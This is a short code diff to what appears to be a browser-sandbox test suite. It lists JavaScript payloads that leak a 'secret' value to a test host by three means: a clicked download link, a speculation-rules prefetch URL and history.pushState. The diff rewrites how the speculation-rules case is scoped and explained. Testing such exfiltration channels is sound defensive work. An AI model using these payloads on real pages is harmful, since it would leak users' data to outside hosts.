@@ -77,13 +77,11 @@ export const navigation: readonly Payload[] = [
 		({ http }) =>
 			`${aDocument}\nconst link = doc.createElement('a'); link.href = '${http}x.csv?' + secret; link.download = secret; doc.body.append(link); link.click(); await ${soon}`
 	),
-	sameText(
-		'speculation-rules',
-		'speculation rules',
-		({ http }) =>
+	onlyHere('speculation-rules', 'speculation rules', {
+		script: ({ http }) =>
 			`${aDocument}\nconst rules = doc.createElement('script'); rules.type = 'speculationrules';\nrules.textContent = JSON.stringify({ prefetch: [{ urls: ['${http}x.html?' + secret], eagerness: 'immediate' }] });\ndoc.head.append(rules); await ${soon}`,
-		{ without: ['firefox'] }
-	),
+		why: 'is a hint: a browser that has other work drops it, in any page'
+	}),
 	onlyHere('history-state', 'history', {
 		script: () => `globalThis.history.pushState(secret, secret, '?' + secret)`,
 		why: 'changes its own page’s address alone; the app’s is read for the secret'
